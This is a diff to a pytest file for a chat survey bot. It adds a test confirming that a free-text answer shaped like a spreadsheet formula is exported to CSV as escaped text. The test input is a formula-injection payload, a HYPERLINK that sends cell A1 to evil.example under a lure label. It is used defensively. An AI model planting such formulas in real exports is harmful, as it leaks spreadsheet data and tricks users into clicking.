@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from datetime import timedelta
 
 import pytest
@@ -205,6 +206,19 @@ def test_a_friends_code_sent_during_a_score_question_is_redeemed(live_bot, emula
     ben.say("問卷")
     ben.say(code)
     assert ben.referral() is not None and ben.referral().referrer_id == amy.customer.id
+
+
+def test_a_free_text_answer_that_reads_as_a_formula_is_exported_as_text(chat, post_purchase, runner, tmp_path):
+    chat.say("問卷")
+    for label in ("10", "5", "親友推薦"):
+        chat.tap(label)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"點我領優惠")'
+    chat.say(formula)
+    out = tmp_path / "answers.csv"
+    assert runner.invoke(args=["surveys", "export", "post_purchase", str(out)]).exit_code == 0
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["liked"] == "'" + formula and row["nps"] == "10"  # numbers stay numbers
 
 
 def recovery_hook(ctx, customer, response, answers):
